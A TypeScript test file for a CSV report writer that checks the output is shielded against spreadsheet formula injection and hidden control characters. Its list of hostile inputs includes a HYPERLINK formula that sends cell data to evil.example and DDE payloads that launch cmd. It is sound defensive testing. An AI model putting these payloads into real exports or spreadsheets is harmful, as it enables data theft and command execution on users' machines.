// CSV reports, read back by another program; docs/contracts.md has their columns.

import { assert, assertAlmostEquals, assertEquals, assertThrows } from "@std/assert";
import { parse } from "csv-parse/sync";
import type { JsonValue } from "../../lib/base/json.ts";
import { InputError } from "../../lib/base/errors.ts";
import { assertCsvFolder, CSV_FILES, csvLine, writeCsv } from "../../lib/reports/csv.ts";
import { makeReport } from "../../lib/reports/report.ts";
import { summarize } from "../../lib/trials/summary.ts";
import type { AssertionEvent } from "../../lib/calls/trace.ts";
import type { Trial } from "../../lib/trials/trial.ts";
import { folder } from "../support/child.ts";
import { textOf } from "../support/documents.ts";
import fc from "../support/fast_check.ts";
import { crossed, failureOf, HOSTILE, record, records } from "../support/records.ts";

type Column =
  | "id number core depth kind probe test changed valid outcome reason why cost_usd solved cell calls"
  | "grounded fewest_calls duration_ms model strategy against_model against_strategy rate invalid of p"
  | "trials mean_calls";

/** A row by the names of its columns; those that stand here are in one file or another. */
type Row = Record<string, string> & { readonly [Name in Words<Column>]: string };
type Words<Text extends string> = Text extends `${infer One} ${infer Rest}` ? One | Words<Rest>
  : Text;

/** The rows of CSV. */
function rowsOf(text: string): Row[] {
  return parse(text, { columns: true });
}

/** What a spreadsheet may run: the sign may come behind blanks and quotes. */
const RUNS = /^[\s"']*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

/** What nobody sees: it steers terminals, or turns the order of letters. */
// deno-lint-ignore no-control-regex
const UNSEEN = /[\0-\x08\v\f\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** Returns a text as cells have it, but for shields. */
function shown(text: string): string {
  return text.toWellFormed().replaceAll(new RegExp(UNSEEN, "g"), "\ufffd");
}

/** Returns a cell as it was before it was shielded, as docs/contracts.md says. */
function unshielded(cell: string): string {
  const begun = cell.startsWith("'") && (RUNS.test(cell) || /^['"]*[\t\r\n]/.test(cell));
  return cell.slice(begun ? 1 : 0)
    .split(/(?<=[;\t\r\n])/)
    .map((part, place) =>
      place > 0 && part.startsWith("'") && RUNS.test(part) ? part.slice(1) : part
    )
    .join("");
}

/** The parts of a cell that a program may take for cells, which splits lines at other places. */
const partsOf = (cell: string) => cell.split(/[;\t\r\n]/);

const EVIL = [
  '=HYPERLINK("https://evil.example?leak="&A1, "click")',
  "=1+1",
  "@SUM(A1:A9)",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '"=1+1',
  "'=1+1",
  "''=1",
  "' =1",
  "  =1+1",
  "\u00a0=1",
  "\uff1d1+1",
  "a,b;c\td",
  "x;=cmd|' /C calc'!A0",
  'x; "@SUM(A1)\t-1\n\r+1',
  'say ""hi""',
  "line\r\nline\nline\rline",
  "\u0000nul\u0000",
  "\u001b[31mred\u202eder\u009b",
  "\ud800 half \udfff",
  "'",
  '"',
  "'plain",
  " ",
  HOSTILE,
];

Deno.test("csvLine() is read by another program as it was, and nothing in it runs in a spreadsheet", () => {
  const pieces = fc.constantFrom(...EVIL, ...`=+-@'", \t\r\n;|\u0000\ud800ax5.`);
  const text = fc.oneof(
    fc.constantFrom(...EVIL),
    fc.array(pieces, { maxLength: 6 }).map((parts) => parts.join("")),
    fc.string({ unit: fc.character() }),
  );
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 4 }), (texts) => {
      const line = csvLine(texts);
      assert(!UNSEEN.test(line) && line.isWellFormed());
      const [cells, ...others] = parse(line) as string[][];
      assertEquals(others, []);
      const wanted = texts.map(shown);
      for (const cell of cells!) {
        for (const part of partsOf(cell)) {
          assert(part.startsWith("'") || !RUNS.test(part) || !isNaN(Number(cell)), cell);
        }
      }
      assertEquals(cells!.map(unshielded), wanted);
    }),
    { numRuns: 600 },
  );
});

Deno.test("csvLine() writes numbers unrounded and plain, booleans as words, and nothing for what is not known", () => {
  const cells: (JsonValue | undefined)[] = [
    ...[-0.1, 1 / 3, 1e-7, 1e21, -5, 0, NaN, Infinity, true, false, null, undefined, ""],
    ...["-5", "+5.5e3", "-5-5", { b: [1], a: "x" }],
  ];
  assertEquals(
    csvLine(cells),
    '-0.1,0.3333333333333333,1e-7,1e+21,-5,0,,,true,false,,,,-5,+5.5e3,\'-5-5,"{""a"":""x"",""b"":[1]}"\n',
  );
});

const EVENTS: Trial["events"] = [
  {
    ...{ kind: "call", call: 1, step: 1, function: "=now()", arguments: '{"a": 1}' },
    ...{ result: `${"x".repeat(1_999)}\u{1f600}`, returned: { variable: "v", value: 1 } },
    durationMs: 2.5,
  },
  {
    ...{ kind: "call", call: 2, step: 2, function: "gone", arguments: "{", result: "no such" },
    failure: { type: "function_not_found", root: true, detail: { nearest: "now" } },
  },
];

const UNMET: AssertionEvent = {
  ...{ kind: "assertion", message: "=expected 1.\nno more", at: "a_test.ts:7:3" },
};

/** Trials of every kind of task, and two strategies on the same graphs. */
const TRIALS: Trial[] = [
  ...crossed({ both: 3, gained: 2, lost: 1 }),
  ...records(["invalid"], { model: "other", reason: "502", seed: 9 }),
  record({
    ...{ id: "t", task: { case: "=refunds", seed: 3 }, outcome: "wrong_answer", model: "@m" },
    ...{ failures: [failureOf("function_not_found")], calls: 2, events: [...EVENTS, UNMET] },
    ...{ behaviours: ["silent", "aversion"], startedAt: "2026-01-02T03:04:05Z", suite: "own" },
    usage: { inputTokens: 1000, outputTokens: 10, estimated: true },
  }),
  record({ id: "p", task: { case: "oracle", seed: 1 }, perturbation: "RD", changed: false }),
  record({
    id: "q",
    task: { set: "city", question: "lib01", difficulty: "easy", mode: "parameters" },
    domain: "library",
  }),
].map((trial, index) => ({ ...trial, index }));

/** Writes trials into a folder that does not exist yet, and reads it. */
async function written(trials: readonly Trial[], prices = {}) {
  await using place = await folder();
  const summaries = trials.map(summarize);
  const report = makeReport(summaries, { suite: "s", prices });
  const path = place.file("new/folder");
  writeCsv(path, report, { summaries, trials: trials.toReversed(), prices });
  assertEquals([...Deno.readDirSync(path)].map(({ name }) => name).sort(), CSV_FILES.toSorted());
  const texts = CSV_FILES.map((name) => Deno.readTextFileSync(`${path}/${name}`));
  const [trialRows, calls, cells, comparisons] = texts.map(rowsOf);
  return {
    report,
    texts,
    trials: trialRows!,
    calls: calls!,
    cells: cells!,
    comparisons: comparisons!,
  };
}

Deno.test("writeCsv() writes a row a trial in plan order, with the fields of its kind of task", async () => {
  const prices = { "@m": { input: 1, output: 10 }, m: { input: 2, output: 20 } };
  const { trials } = await written(TRIALS, prices);
  assertEquals(trials.map(({ id }) => unshielded(id!)), TRIALS.map(({ id }) => id));
  assertEquals(trials.map(({ number }) => Number(number)), TRIALS.map((_, place) => place + 1));
  const [own, probe, question] = trials.slice(-3);
  assertEquals<unknown>({ ...own }, {
    ...{ id: "t", number: String(TRIALS.length - 2), suite: "own", kind: "case" },
    ...{ cell: "'=refunds", unit: '{"case":"=refunds","seed":3}' },
    ...{ task: '{"case":"=refunds","seed":3}', core: "", depth: "", connected: "" },
    ...{ disconnected: "", task_seed: "3", test: "'=refunds", probe: "", question_set: "" },
    ...{ question: "", difficulty: "", mode: "", domain: "", repetition: "1", model: "'@m" },
    ...{ strategy: "plain", perturbation: "none", variant: "", served: "'@m" },
    ...{ simulated: "false", outcome: "wrong_answer", solved: "false", valid: "true" },
    ...{ changed: "", unsolvable: "", grounded: own!.grounded, calls: "2" },
    ...{ fewest_calls: own!.fewest_calls, wrong_calls: "1", root_failures: "1" },
    ...{ behaviours: "silent;aversion", input_tokens: "1000", output_tokens: "10" },
    ...{ tokens_estimated: "true", cost_usd: "0.0011", duration_ms: own!.duration_ms },
    ...{ started_at: "2026-01-02T03:04:05Z", replayed: "false", partly_replayed: "false" },
    ...{ reason: "", why: "'=expected 1 (a_test.ts:7)", agent: "" },
  });
  assertEquals([probe!.probe, probe!.test, probe!.changed, probe!.valid], [
    ...["oracle", "", "false", "false"],
  ]);
  assertEquals(
    ["kind", "question_set", "question", "difficulty", "mode", "domain", "calls", "core"]
      .map((name) => question![name]),
    ["question", "city", "lib01", "easy", "parameters", "library", "", ""],
  );
  const invalid = trials.find(({ outcome }) => outcome === "invalid")!;
  assertEquals([invalid.reason, invalid.why, invalid.valid, invalid.cost_usd], [
    ...["502", "", "false", ""],
  ]);
  assertEquals([trials[0]!.core, trials[0]!.depth, trials[0]!.kind], ["3", "2", "generated"]);
});

Deno.test("writeCsv() writes a row a call, with long texts cut", async () => {
  const { calls } = await written(TRIALS);
  assertEquals<unknown>(calls.map((row) => ({ ...row })), [
    {
      ...{ trial_id: "t", call: "1", step: "1", function: "'=now()", arguments: '{"a": 1}' },
      ...{ result: `${"x".repeat(1_999)}…`, refused: "false", failure: "", root: "", cause: "" },
      ...{
        guessed: "false",
        fault: "",
        error: "",
        made_by: "model",
        duration_ms: "2.5",
        agent_did: "",
      },
    },
    {
      ...{ trial_id: "t", call: "2", step: "2", function: "gone", arguments: "{" },
      ...{ result: "no such", refused: "true", failure: "function_not_found", root: "true" },
      ...{ cause: "there is no such function, the nearest is now", guessed: "false" },
      ...{ fault: "", error: "", made_by: "model", duration_ms: "", agent_did: "" },
    },
  ]);
});

Deno.test("writeCsv() writes cells and comparisons whose numbers follow from the trials", async () => {
  const { report, trials, cells, comparisons } = await written(TRIALS);
  for (const cell of cells) {
    const own = trials.filter((trial) =>
      ["model", "strategy", "perturbation", "variant", "cell"]
        .every((name) => trial[name] === cell[name])
    );
    const valid = own.filter((trial) => trial.valid === "true");
    const solved = valid.filter((trial) => trial.solved === "true").length;
    assertEquals([own.length, valid.length, solved].map(String), [
      ...[cell.trials, cell.valid, cell.solved],
    ]);
    assertEquals(cell.rate, valid.length === 0 ? "" : String(solved / valid.length));
    assertEquals(Number(cell.invalid), own.filter(({ outcome }) => outcome === "invalid").length);
    const calls = valid.flatMap((trial) => trial.calls === "" ? [] : [Number(trial.calls)]);
    const mean = calls.reduce((sum, one) => sum + one, 0) / calls.length;
    if (calls.length === 0) assertEquals(cell.mean_calls, "");
    else assertAlmostEquals(Number(cell.mean_calls), mean);
  }
  assertEquals(cells.length, report.subjects.flatMap(({ cells }) => cells).length);
  const [pair, ...others] = comparisons.filter(({ of }) => of === "strategy");
  assertEquals(others, []);
  const { subject, success, gained, lost } = report.comparisons[0]!;
  assertEquals([pair!.model, pair!.strategy, pair!.against_model, pair!.against_strategy], [
    ...[subject.model, subject.strategy, subject.model, "plain"],
  ]);
  assertEquals(
    ["rate", "against_rate", "difference", "lower", "upper", "gained", "lost"]
      .map((name) => Number(pair![name])),
    [
      ...[success!.candidate, success!.baseline, success!.difference],
      ...[success!.interval!.lower, success!.interval!.upper, gained.length, lost.length],
    ],
  );
  assertEquals([pair!.test, pair!.p], ["mcnemar", "1"]);
});

Deno.test("writeCsv() counts tests that were gained and lost, not their trials", async () => {
  const trialsOf = (model: string, solved: readonly boolean[]) =>
    solved.map((own, place) =>
      record({
        ...{ model, task: { case: place < 3 ? "a" : "b", seed: place }, repetition: place % 3 + 1 },
        outcome: own ? "solved" : "wrong_answer",
      })
    );
  const { comparisons: [pair] } = await written([
    ...trialsOf("old", [true, true, true, false, true, true]),
    ...trialsOf("new", [false, false, false, true, true, true]),
  ]);
  assertEquals([pair!["gained"], pair!["lost"]], ["1", "1"]);
});

Deno.test("writeCsv() reads trials one by one, keeps none, and has whole files or none", async () => {
  await using place = await folder();
  const summaries = TRIALS.map(summarize);
  const report = makeReport(summaries, { suite: "s" });
  const cut = function* () {
    yield TRIALS[0]!;
    throw new InputError("torn");
  };
  assertThrows(
    () => writeCsv(place.path, report, { summaries, trials: cut() }),
    InputError,
    "torn",
  );
  assertEquals(place.names(), []);
});

Deno.test("writeCsv() writes hostile names and texts as they are, but for what would run", async () => {
  const trials = EVIL.map((text, index) =>
    record({
      ...{ id: `${index} ${text}`, index, suite: text, model: text, served: text },
      task: { case: text, seed: 1 },
      ...{ outcome: "invalid", reason: text, strategy: text, perturbation: text, variant: text },
      behaviours: [text] as unknown as Trial["behaviours"],
      events: [{
        ...{ kind: "call", call: 1, step: 1, function: text, arguments: text, result: text },
        error: text,
      }],
    })
  );
  const { texts, ...rows } = await written(trials);
  for (const text of texts) {
    for (const cell of (parse(text) as string[][]).flat()) {
      for (const part of partsOf(cell)) assert(part.startsWith("'") || !RUNS.test(part), cell);
    }
  }
  const wanted = EVIL.map(shown);
  for (
    const name of [
      "suite",
      "model",
      "served",
      "test",
      "strategy",
      "variant",
      "reason",
      "behaviours",
    ]
  ) {
    assertEquals(rows.trials.map((row) => unshielded(row[name]!)), wanted, name);
  }
  for (const name of ["function", "arguments", "result", "error"]) {
    assertEquals(rows.calls.map((row) => unshielded(row[name]!)), wanted.toReversed(), name);
  }
});

Deno.test("assertCsvFolder() lets files of its own be replaced, and no others", async () => {
  await using place = await folder();
  const summaries = TRIALS.map(summarize);
  const report = makeReport(summaries, { suite: "s" });
  assertCsvFolder(place.file("missing"), "missing");
  writeCsv(place.path, report, { summaries, trials: TRIALS });
  assertCsvFolder(place.path, "out");
  for (const name of CSV_FILES) {
    const text = Deno.readTextFileSync(place.file(name));
    for (const other of ["id,number\n1,2\n", "a", text.slice(1)]) {
      place.write(name, other);
      assertThrows(
        () => assertCsvFolder(place.path, "out"),
        InputError,
        `Cannot write the report to out/${name} as only another such report may be replaced: another file is there`,
      );
    }
    for (const other of ["", text]) {
      place.write(name, other);
      assertCsvFolder(place.path, "out");
    }
  }
  Deno.removeSync(place.file("calls.csv"));
  Deno.mkdirSync(place.file("calls.csv"));
  assertThrows(() => assertCsvFolder(place.path, "out"), InputError, "out/calls.csv");
});

Deno.test("docs/contracts.md has the columns of every CSV file, in their order", async () => {
  const { texts } = await written(TRIALS);
  const page = textOf("docs/contracts.md");
  for (const [place, name] of CSV_FILES.entries()) {
    const [section] = page.split(`\n### ${name}\n`)[1]!.split(/\n##+ /);
    const rows = section!.split("\n").filter((line) => line.startsWith("| `"));
    const names = rows.flatMap((line) =>
      [...line.split("|")[1]!.matchAll(/`([^`]+)`/g)].map(([, one]) => one!)
    );
    assertEquals(names, (parse(texts[place]!) as string[][])[0], name);
  }
});
